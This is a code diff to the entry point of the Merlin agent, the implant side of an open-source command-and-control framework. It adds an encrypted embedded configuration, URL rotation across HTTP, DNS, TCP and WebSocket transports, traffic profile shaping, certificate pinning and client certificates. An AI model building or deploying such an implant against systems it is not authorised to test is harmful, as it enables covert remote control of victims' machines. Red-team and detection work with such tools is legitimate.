@@ -30,6 +30,8 @@ import (
 	// Merlin
 	"github.com/Ne0nd0g/merlin/pkg"
 	"github.com/Ne0nd0g/merlin/pkg/agent"
+	"github.com/Ne0nd0g/merlin/pkg/config"
+	"github.com/Ne0nd0g/merlin/pkg/profiles"
 )
 
 // GLOBAL VARIABLES
@@ -39,17 +41,40 @@ var build = "nonRelease"
 var psk = "merlin"
 var proxy = ""
 var host = ""
+var userAgent = ""
+var watermark = ""
+var sleep = 30000 * time.Millisecond
+
+// rotate is how long the agent uses one of its comma separated URLs before moving to the next one
+var rotate time.Duration
+
+// profile shapes the agent's HTTP messages to match its listener's profile; it is only set by the configuration
+var profile *profiles.Profile
+
+// crashReports sends the server a report when the agent recovers from a panic; it is only set by the configuration
+var crashReports bool
+
+// clientCert is the PEM client certificate and key the agent presents to listeners; it is only set by the configuration
+var clientCert string
+
+// pins are the certificate public key pins the agent accepts from its listeners; they are only set by the configuration
+var pins []string
+
+// configuration is the encrypted agent configuration embedded by the Make file; it replaces the defaults above
+var configuration = ""
 
 func main() {
+	loadConfiguration()
 	verbose := flag.Bool("v", false, "Enable verbose output")
 	version := flag.Bool("version", false, "Print the agent version and exit")
 	debug := flag.Bool("debug", false, "Enable debug output")
-	flag.StringVar(&url, "url", url, "Full URL for agent to connect to")
+	flag.StringVar(&url, "url", url, "Full URL for agent to connect to; separate several URLs with commas to rotate check ins across them")
 	flag.StringVar(&psk, "psk", psk, "Pre-Shared Key used to encrypt initial communications")
-	flag.StringVar(&protocol, "proto", protocol, "Protocol for the agent to connect with [https (HTTP/1.1), h2 (HTTP/2), hq (QUIC or HTTP/3.0)]")
+	flag.StringVar(&protocol, "proto", protocol, "Protocol for the agent to connect with [https (HTTP/1.1), h2 (HTTP/2), hq (QUIC or HTTP/3.0), dns (DNS queries to a Merlin DNS listener), tcp (raw TCP to a Merlin TCP listener), ws or wss (WebSocket to a Merlin WebSocket listener)]")
 	flag.StringVar(&proxy, "proxy", proxy, "Hardcoded proxy to use for http/1.1 traffic only that will override host configuration")
 	flag.StringVar(&host, "host", host, "HTTP Host header")
-	sleep := flag.Duration("sleep", 30000*time.Millisecond, "Time for agent to sleep")
+	flag.DurationVar(&sleep, "sleep", sleep, "Time for agent to sleep")
+	flag.DurationVar(&rotate, "rotate", rotate, "Time the agent uses one of its URLs before moving to the next; 0 rotates every check in")
 	flag.Usage = usage
 	flag.Parse()
 
@@ -67,7 +92,26 @@ func main() {
 		}
 		os.Exit(1)
 	}
-	a.WaitTime = *sleep
+	a.WaitTime = sleep
+	a.Rotate = rotate
+	if userAgent != "" {
+		a.UserAgent = userAgent
+	}
+	a.Watermark = watermark
+	a.Profile = profile
+	a.CrashReports = crashReports
+	if err := a.SetPins(pins); err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	if err := a.SetClientCertificate(clientCert); err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
 	errRun := a.Run()
 	if errRun != nil {
 		if *verbose {
@@ -77,6 +121,29 @@ func main() {
 	}
 }
 
+// loadConfiguration decrypts the embedded configuration, if there is one, into the default values for the command
+// line flags
+func loadConfiguration() {
+	if configuration == "" {
+		return
+	}
+	c, err := config.Decrypt(configuration)
+	if err != nil {
+		return
+	}
+	url, psk, proxy, host, userAgent, watermark, profile = c.URL, c.PSK, c.Proxy, c.Host, c.UserAgent, c.Watermark, c.Profile
+	pins, crashReports, clientCert = c.Pins, c.Crash, c.ClientCert
+	if c.Protocol != "" {
+		protocol = c.Protocol
+	}
+	if d, err := time.ParseDuration(c.Sleep); err == nil {
+		sleep = d
+	}
+	if d, err := time.ParseDuration(c.Rotate); err == nil {
+		rotate = d
+	}
+}
+
 // usage prints command line options
 func usage() {
 	fmt.Printf("Merlin Agent\r\n")